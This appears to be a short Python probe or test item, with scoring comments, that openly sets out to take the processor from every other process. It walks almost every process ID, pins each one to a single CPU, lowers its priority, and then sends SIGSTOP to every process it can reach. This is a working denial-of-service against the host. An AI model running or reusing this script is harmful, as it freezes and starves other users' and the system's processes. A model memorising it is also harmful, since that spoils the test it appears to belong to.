# points: 0
# It takes the processor from everyone: affinity, priority, scheduling, stop signals.
# shows: reached []
import os, signal

reached = []
for pid in (os.getppid(), *range(2, 70_000)):
    if pid in (0, os.getpid()):
        continue
    for take in (lambda: os.sched_setaffinity(pid, {0}), lambda: os.setpriority(os.PRIO_PROCESS, pid, 19)):
        try:
            take()
            reached.append(pid)
        except OSError:
            pass
try:
    os.kill(-1, signal.SIGSTOP)
except OSError:
    pass
print("reached", reached)
